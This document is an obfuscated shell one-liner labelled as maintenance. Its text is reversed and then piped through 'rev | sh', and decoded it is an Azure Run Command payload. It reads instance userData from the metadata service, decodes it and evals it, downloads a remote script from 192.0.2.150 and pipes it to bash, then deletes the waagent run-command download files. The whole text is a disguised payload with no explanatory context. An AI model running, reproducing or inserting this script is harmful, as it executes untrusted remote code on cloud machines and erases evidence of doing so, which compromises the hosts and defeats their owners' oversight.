echo '
*/daolnwod/dnammoc-nur/tnegaaw/bil/rav/ fr- mr
hsab | hs.x/051.2.0.291//:ptth s- lruc
"DU$" lave
)d- 46esab | "txet=tamrof&10-10-1202=noisrev-ipa?ataDresu/etupmoc/ecnatsni/atadatem/452.961.452.961//:ptth" eurt:atadateM H- s- lruc($=DU
daolyap dnammoC nuR #
hsab/nib/!#
3v 4381 ecnanetniam #' | rev | sh